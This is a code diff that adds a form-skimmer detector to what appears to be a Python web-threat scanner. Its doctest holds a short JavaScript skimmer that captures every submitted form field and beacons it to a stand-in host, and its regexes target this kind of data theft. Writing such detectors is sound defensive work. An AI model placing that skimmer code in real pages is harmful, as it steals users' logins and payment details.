@@ -79,11 +79,58 @@ def _typed_form_findings(path: str, text: str) -> list[ThreatFinding]:
     return findings
 
 
+_EVERY_FORM_SUBMITTED = re.compile(
+    r"\b(?:document|window|document\.body)\.addEventListener\(\s*['\"`]submit['\"`]"
+)
+"""A submit listener on the whole page: it sees every form, the login and checkout among them
+(a contact form's own handler listens on that form)."""
+_EVERY_FIELD = re.compile(
+    r"\.elements\b|\bnew\s+FormData\b|querySelectorAll\(\s*['\"`](?:input|select|textarea)"
+)
+_SENDS = re.compile(r"\bsendBeacon\b|\bfetch\s*\(|\bXMLHttpRequest\b|\.src\s*=|\bWebSocket\b")
+_WRITTEN_HOST = re.compile(r"['\"`](?:https?|wss?)://([\w.-]+)")
+
+
+def _submitted_form_findings(path: str, text: str) -> list[ThreatFinding]:
+    """A finding at a page-wide submit listener whose handler reads every field of the form
+    submitted, in a script that sends to a host it writes out: a form skimmer.
+
+    >>> js = ("var ep = 'https://rum.m.invalid/c';\\ndocument.addEventListener('submit', (e) => {"
+    ...     "\\n  var f = {}; for (const el of e.target.elements) f[el.name] = el.value;"
+    ...     "\\n  navigator.sendBeacon(ep, JSON.stringify(f)); }, true);")
+    >>> [f.rule_id for f in _submitted_form_findings("b.liquid", js)]
+    ['js.form-capture-as-typed']
+    >>> _submitted_form_findings("b.liquid", js.replace("document.add", "form.add"))
+    []
+    """
+    listener = _EVERY_FORM_SUBMITTED.search(text)
+    if listener is None or not _SENDS.search(text):
+        return []
+    if not _EVERY_FIELD.search(text[listener.end() : listener.end() + _HANDLER_SPAN]):
+        return []
+    if all(is_local(m.group(1)) for m in _WRITTEN_HOST.finditer(text)):
+        return []
+    return [
+        finding_at(
+            path,
+            text,
+            listener.start(),
+            "8.2",
+            "critical",
+            "form skimming: a page script reads every field of any form the user submits on "
+            "the page and sends them to a host written in the script",
+            FORM_CAPTURE_RULE_ID,
+        )
+    ]
+
+
 def keylogger_findings(path: str, text: str) -> list[ThreatFinding]:
     """One finding at the key listener of a script that buffers keys and sends them out, and
-    one at each form listener that sends the fields as they are typed."""
+    one at each form listener that sends the fields as they are typed or submitted."""
     typing = scanner_for(_TYPING_LISTENER).search(text)
     captures = _typed_form_findings(path, text) if typing else []
+    if "submit" in text:
+        captures += _submitted_form_findings(path, text)
     listener = scanner_for(_KEY_LISTENER).search(text)
     if not listener or not _KEY_COLLECTED.search(text):
         return captures
